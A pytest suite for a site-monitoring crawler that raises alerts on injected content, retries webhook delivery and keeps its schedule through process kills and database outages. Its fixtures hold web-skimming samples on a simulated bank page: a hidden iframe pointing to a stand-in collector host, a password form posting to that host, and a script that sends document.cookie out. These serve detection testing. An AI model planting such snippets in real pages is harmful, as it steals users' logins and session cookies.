"""Watching seed groups: alerts on the virtual web, delivery with retries, schedules surviving kills."""

from __future__ import annotations

import http.server
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import psycopg
import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from hostpairs.crawler.options import CrawlOptions
from hostpairs.crawler.watch import Watcher
from hostpairs.demoweb.server import PIXEL, VirtualWeb, html, js
from hostpairs.seeds.validation import load_seed_groups
from hostpairs.storage.db import open_database, session_factory
from hostpairs.storage.models import Alert, AlertDelivery, CrawlRun, SeedGroupState, Visit, WatchHeartbeat
from hostpairs.storage.schedules import running_run
from hostpairs.storage.times import utcnow
from tests.conftest import POSTGRES_ADMIN, ROOT, engine_for, run_cli, sqlite_url

BANK = "https://www.bank-watch.com/"
BANK_PAGE = """<!doctype html><html><head><script src="/js/app.js"></script></head>
<body><h1>Bank</h1><img src="https://static.bank-watch-cdn.net/logo.gif">{injected}</body></html>"""
INJECTED = """<script>
var f = document.createElement('iframe'); f.src = 'https://collect.skim-evil.com/frame';
f.style.display = 'none'; document.body.appendChild(f);
</script>"""


def bank_site(injected: bool = False, app_js: str = "var app = 1;") -> dict:
    return {
        "/": html(BANK_PAGE.format(injected=INJECTED if injected else "")),
        "/js/app.js": js(app_js),
    }


@pytest.fixture
def web() -> Iterator[VirtualWeb]:
    rotation = iter(range(10**6))
    sites = {
        "www.bank-watch.com": bank_site(),
        "static.bank-watch-cdn.net": {"/logo.gif": PIXEL},
        "collect.skim-evil.com": {"/frame": html("<p>collector</p>")},
        "www.news-rotate.com": {"/": lambda path: html(
            f"<script src='https://ads{next(rotation) % 3}.rotate-ads.net/ad.js'></script>")},
        **{f"ads{i}.rotate-ads.net": {"/ad.js": js("var ad = 1;")} for i in range(3)},
    }
    with VirtualWeb(sites) as server:
        yield server


def write_seeds(path: Path, url: str = BANK, interval: str = "1h", tags: str = '["payment", "login"]') -> Path:
    path.write_text(f"""
[groups.bank]
urls = ["{url}"]
interval = "{interval}"
tags = {tags}
""")
    return path


def crawl_seeds(seeds: Path, db: str, web: VirtualWeb, *extra: str, mode: str = "browser") -> str:
    result = run_cli("crawl", "--seeds", str(seeds), "--db", db, "--host-rules", web.host_rules,
                     "--dwell", "0.5", "--mode", mode, *extra)
    assert result.returncode == 0, result.stderr
    return result.stdout


def alerts_raised(summary: str) -> int:
    """The alert count of a crawl summary line (`... alerts: N  errors: ...`)."""
    [count] = re.findall(r"\balerts: (\d+)\b", summary)
    return int(count)


def alerts_of(engine: Engine) -> list[Alert]:
    with Session(engine) as session:
        return list(session.scalars(select(Alert).order_by(Alert.id)))


def test_injected_hidden_iframe_alerts_once_with_its_signals(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db, alert_file = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path), tmp_path / "alerts.jsonl"
    assert alerts_raised(crawl_seeds(seeds, db, web, "--alert-file", str(alert_file))) == 0  # baseline
    web.sites["www.bank-watch.com"] = bank_site(injected=True)
    assert alerts_raised(crawl_seeds(seeds, db, web, "--alert-file", str(alert_file))) == 1
    assert alerts_raised(crawl_seeds(seeds, db, web, "--alert-file", str(alert_file))) == 0  # same injection again
    engine = engine_for(db)
    [alert] = alerts_of(engine)
    assert (alert.kind, alert.cause, alert.child_host, alert.severity) == (
        "new_iframe", "iframe.src", "collect.skim-evil.com", "critical")
    signals = json.loads(alert.signals)
    assert signals[0].startswith("hidden frame: ") and "display:none" in signals[0]
    assert signals[1] == f"frame created by script {BANK}"
    assert "cross-site: skim-evil.com is not bank-watch.com" in signals
    assert "never seen before: collect.skim-evil.com" in signals
    assert "page tagged login and payment" in signals
    events = [json.loads(line) for line in alert_file.read_text().splitlines()]
    assert [(e["id"], e["kind"], e["seed_group"]) for e in events] == [(alert.id, "new_iframe", "bank")]

    listed = run_cli("alerts", "--json", "--db", db)
    assert [json.loads(line)["child_host"] for line in listed.stdout.splitlines()] == ["collect.skim-evil.com"]
    assert run_cli("alerts", "ack", str(alert.id), "--db", db).returncode == 0
    assert run_cli("alerts", "ack", "999", "--db", db).returncode == 2
    assert run_cli("alerts", "--open", "--json", "--db", db).stdout.strip() == ""
    # once acknowledged, a pair still seen in the recent visits stays known: no new alert
    assert alerts_raised(crawl_seeds(seeds, db, web)) == 0
    engine.dispose()


def test_login_form_sent_to_a_new_host_alerts_new_form_action(web: VirtualWeb, tmp_path: Path) -> None:
    form = "<form action='{action}' method='post'><input name='user'><input type='password' name='pw'></form>"
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    web.sites["www.bank-watch.com"]["/"] = html(BANK_PAGE.format(injected=form.format(action="/session")))
    crawl_seeds(seeds, db, web)
    web.sites["www.bank-watch.com"]["/"] = html(BANK_PAGE.format(
        injected=form.format(action="https://collect.skim-evil.com/login")))
    crawl_seeds(seeds, db, web)
    engine = engine_for(db)
    [alert] = alerts_of(engine)
    engine.dispose()
    assert (alert.kind, alert.child_url, alert.severity) == (
        "new_form_action", "https://collect.skim-evil.com/login", "critical")
    assert json.loads(alert.signals)[0] == "form asks for password"


def test_changed_script_body_alerts_script_changed(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    crawl_seeds(seeds, db, web)
    web.sites["www.bank-watch.com"] = bank_site(app_js="var app = 1; new Image().src = '/x?' + document.cookie;")
    crawl_seeds(seeds, db, web)
    engine = engine_for(db)
    [alert] = alerts_of(engine)
    engine.dispose()
    evidence = json.loads(alert.evidence)
    assert (alert.kind, alert.child_url) == ("script_changed", f"{BANK}js/app.js")
    assert evidence["sha256"] not in evidence["previous_sha256"]


def test_rotating_ad_hosts_stop_alerting_once_known(web: VirtualWeb, tmp_path: Path) -> None:
    seeds = write_seeds(tmp_path / "seeds.toml", url="https://www.news-rotate.com/", tags="[]")
    db = sqlite_url(tmp_path)
    counts = [crawl_seeds(seeds, db, web, mode="static").split("alerts: ")[1].split()[0] for _ in range(6)]
    assert counts == ["0", "1", "1", "0", "0", "0"]  # baseline ads0, then ads1 and ads2 are new once


class FlakyWebhook(http.server.BaseHTTPRequestHandler):
    """Fails the first two deliveries with HTTP 500, then accepts."""

    calls: list[dict] = []

    def do_POST(self) -> None:  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        FlakyWebhook.calls.append(body)
        self.send_response(500 if len(FlakyWebhook.calls) <= 2 else 200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def test_flaky_webhook_gets_the_alert_delivered_exactly_once(web: VirtualWeb, tmp_path: Path) -> None:
    FlakyWebhook.calls = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FlakyWebhook)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    hook = f"http://127.0.0.1:{server.server_address[1]}/hook"
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    crawl_seeds(seeds, db, web, "--webhook", hook, mode="static")
    web.sites["www.bank-watch.com"]["/"] = html(BANK_PAGE.format(injected="<iframe src='https://collect.skim-evil.com/frame'></iframe>"))
    crawl_seeds(seeds, db, web, "--webhook", hook, mode="static")
    server.shutdown()
    assert len(FlakyWebhook.calls) == 3 and len({c["id"] for c in FlakyWebhook.calls}) == 1
    assert FlakyWebhook.calls[-1]["child_host"] == "collect.skim-evil.com"
    engine = engine_for(db)
    with Session(engine) as session:
        delivery = session.scalars(select(AlertDelivery)).one()
    engine.dispose()
    assert delivery.delivered_at is not None and delivery.attempts == 3 and delivery.last_error is None


def start_watch(seeds: Path, db: str, web: VirtualWeb) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen(
        [sys.executable, "-m", "hostpairs", "watch", str(seeds), "--db", db, "--tick", "0.5", "--dwell", "3",
         "--host-rules", web.host_rules],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True, start_new_session=True,
    )


def wait_for(condition, timeout: float = 90) -> None:  # noqa: ANN001
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.2)


def runs(engine: Engine) -> list[CrawlRun]:
    with Session(engine) as session:
        return list(session.scalars(select(CrawlRun).order_by(CrawlRun.id)))


def test_watch_killed_and_restarted_neither_loses_nor_repeats_a_crawl(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db = write_seeds(tmp_path / "seeds.toml", interval="5m"), sqlite_url(tmp_path)
    engine = engine_for(db)
    # 1. the machine dies in the middle of the first crawl (watcher and crawl killed together)
    watcher = start_watch(seeds, db, web)
    wait_for(lambda: len(runs(engine)) == 1)
    os.killpg(watcher.pid, signal.SIGKILL)
    watcher.wait()
    assert runs(engine)[0].finished_at is None
    # 2. restarted: the lost crawl runs again and finishes; then only the watcher is killed
    watcher = start_watch(seeds, db, web)
    wait_for(lambda: any(r.finished_at for r in runs(engine)))
    os.kill(watcher.pid, signal.SIGKILL)
    watcher.wait()
    # 3. restarted again: the group is not due for 5 minutes, so nothing runs
    watcher = start_watch(seeds, db, web)
    time.sleep(4)
    os.killpg(watcher.pid, signal.SIGKILL)
    watcher.wait()
    finished = [r for r in runs(engine) if r.finished_at]
    assert len(runs(engine)) == 2 and len(finished) == 1
    with Session(engine) as session:
        state = session.get(SeedGroupState, "bank")
        complete_visits = session.scalar(select(func.count()).select_from(Visit).where(Visit.error.is_(None)))
    # due one interval after the slot the finished run was due for (however late the busy machine started it)
    slot = finished[0].due_at or finished[0].started_at
    assert 299 <= (state.next_run_at - slot).total_seconds() <= 301
    assert complete_visits == 1
    status = run_cli("seeds", "status", "--db", db)
    assert status.returncode == 0, status.stderr
    # the heartbeat is the last watcher's; the group's row shows the schedule stored above
    assert f"pid {watcher.pid} on {socket.gethostname()}, seeds {seeds}" in status.stdout
    [row] = [line for line in status.stdout.splitlines() if line.startswith("│ bank ")]
    shown = [cell.strip() for cell in row.strip().strip("│").split("│")]
    assert shown == ["bank", *(f"{t:%Y-%m-%d %H:%M:%S}" for t in (state.last_started_at, state.last_finished_at,
                                                                 state.next_run_at)), "no"]
    engine.dispose()


def test_seeds_validate_points_at_the_line(tmp_path: Path) -> None:
    seeds = tmp_path / "seeds.toml"
    seeds.write_text('[groups.bank]\nurls = ["https://www.bank-watch.com/"]\nintreval = "1h"\n')
    result = run_cli("seeds", "validate", str(seeds))
    assert result.returncode == 2 and f"{seeds}:3" in result.stderr
    good = write_seeds(tmp_path / "good.toml")
    assert run_cli("seeds", "validate", str(good)).returncode == 0


def test_a_run_is_running_while_it_shows_signs_of_life(tmp_path: Path) -> None:
    engine = engine_for(sqlite_url(tmp_path))
    finished_child = subprocess.Popen([sys.executable, "-c", "pass"])
    finished_child.wait()  # its pid names no process now
    now, here = utcnow(), socket.gethostname()
    cases = {
        "elsewhere": ("other-machine", 1, now),  # another machine's pid means nothing here
        "crashed": (here, finished_child.pid, now),  # a dead process is seen at once
        "reused-pid": (here, os.getpid(), now - timedelta(minutes=10)),  # silent: the pid is someone else's
        "alive": (here, os.getpid(), now - timedelta(seconds=30)),
    }
    with Session(engine) as session, session.begin():
        session.add_all(CrawlRun(seed_group=group, started_at=now - timedelta(hours=1), host=host, pid=pid,
                                 alive_at=alive_at, pages=0, errors=0)
                        for group, (host, pid, alive_at) in cases.items())
    with Session(engine) as session:
        running = {group for group in cases if running_run(session, group, utcnow())}
    engine.dispose()
    assert running == {"elsewhere", "alive"}


def test_scrapy_crawl_of_a_seed_group_keeps_its_run_alive(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))}
    crawl = subprocess.Popen(
        [sys.executable, "-m", "scrapy", "crawl", "hostpairs", "-a", f"seeds={seeds}", "-a", "group=bank",
         "-s", f"HOSTPAIRS_DB={db}", "-s", f"HOSTPAIRS_HOST_RULES={web.host_rules}", "-s", "HOSTPAIRS_DWELL=3",
         "-s", "HOSTPAIRS_RUN_HEARTBEAT=0.5"],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    _, stderr = crawl.communicate(timeout=300)
    assert crawl.returncode == 0, stderr[-2000:]
    engine = engine_for(db)
    [run] = runs(engine)
    with Session(engine) as session:
        visits = session.scalars(select(Visit)).all()
    engine.dispose()
    assert [v.requested_url for v in visits] == [BANK] and visits[0].error is None
    assert run.finished_at is not None and run.pages == 1
    assert run.host == socket.gethostname() and run.pid == crawl.pid  # the process that crawled
    assert run.alive_at - run.started_at > timedelta(seconds=2)  # renewed during the 3 s dwell
    assert "heartbeat not stored" not in stderr


def test_the_watcher_waits_out_a_database_outage(tmp_path: Path) -> None:
    name = f"hostpairs_outage_{uuid.uuid4().hex[:8]}"
    admin = psycopg.connect(POSTGRES_ADMIN, autocommit=True)
    admin.execute(f'CREATE DATABASE "{name}"')

    def rename(old: str, new: str) -> None:
        admin.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s", (old,))
        admin.execute(f'ALTER DATABASE "{old}" RENAME TO "{new}"')

    engine = open_database(f"{POSTGRES_ADMIN.rsplit('/', 1)[0]}/{name}")
    sessions = session_factory(engine)
    with sessions.begin() as session:  # the group is not due: no crawl runs, only the watcher's own work
        session.add(SeedGroupState(seed_group="bank", next_run_at=utcnow() + timedelta(hours=1)))
    lines: list[str] = []
    seeds = write_seeds(tmp_path / "seeds.toml")
    watcher = Watcher(seeds, sessions, CrawlOptions(), tick=0.5, log=lines.append)
    groups = load_seed_groups(seeds)
    try:
        assert watcher.run_once(groups) == 0.5 and lines == []
        rename(name, f"{name}_away")  # the database goes away under the watcher
        assert watcher.run_once(groups) == 0.5
        assert len(lines) == 1 and lines[0].startswith("database unavailable, trying again in 0.5 s: ")
        assert "does not exist" in lines[0]
        rename(f"{name}_away", name)  # and comes back
        before = utcnow()
        watcher.run_once(groups)
        with sessions() as session:
            heartbeat = session.get(WatchHeartbeat, "watch")
        assert len(lines) == 1 and heartbeat.beat_at >= before
    finally:
        engine.dispose()
        for database in (name, f"{name}_away"):
            admin.execute(f'DROP DATABASE IF EXISTS "{database}" WITH (FORCE)')
        admin.close()


def test_a_visit_the_database_refuses_is_reported_and_its_group_stays_due(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    engine = open_database(db)
    with engine.begin() as connection:  # the database refuses this one visit, as a full disk would
        connection.exec_driver_sql(f"""CREATE TRIGGER refuse_bank BEFORE INSERT ON visits
            WHEN NEW.requested_url = '{BANK}' BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END""")
    result = run_cli("crawl", "--seeds", str(seeds), "--db", db, "--host-rules", web.host_rules, "--dwell", "0.5")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"not stored: {BANK} — database or disk is full" in result.stdout
    assert "1 visits not stored" in result.stderr
    with Session(engine) as session:
        assert session.scalars(select(Visit)).all() == []
        assert session.get(SeedGroupState, "bank").next_run_at is None  # still due
    assert [r.finished_at for r in runs(engine)] == [None]
    with engine.begin() as connection:
        connection.exec_driver_sql("DROP TRIGGER refuse_bank")
    crawl_seeds(seeds, db, web)  # the next run stores it and moves the schedule on
    with Session(engine) as session:
        assert [v.requested_url for v in session.scalars(select(Visit))] == [BANK]
        assert session.get(SeedGroupState, "bank").next_run_at is not None
    engine.dispose()


def test_a_second_watcher_of_the_same_database_refuses_to_start(web: VirtualWeb, tmp_path: Path) -> None:
    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
    engine = engine_for(db)

    def heartbeat() -> WatchHeartbeat | None:
        with Session(engine) as session:
            return session.get(WatchHeartbeat, "watch")

    first = start_watch(seeds, db, web)
    try:
        wait_for(lambda: heartbeat() is not None)
        second = run_cli("watch", str(seeds), "--db", db, "--host-rules", web.host_rules, timeout=60)
        assert second.returncode == 2 and "Traceback" not in second.stderr
        assert f"another watcher runs on this database: pid {first.pid} on {socket.gethostname()}" in second.stderr
        assert heartbeat().pid == first.pid
    finally:
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
    engine.dispose()
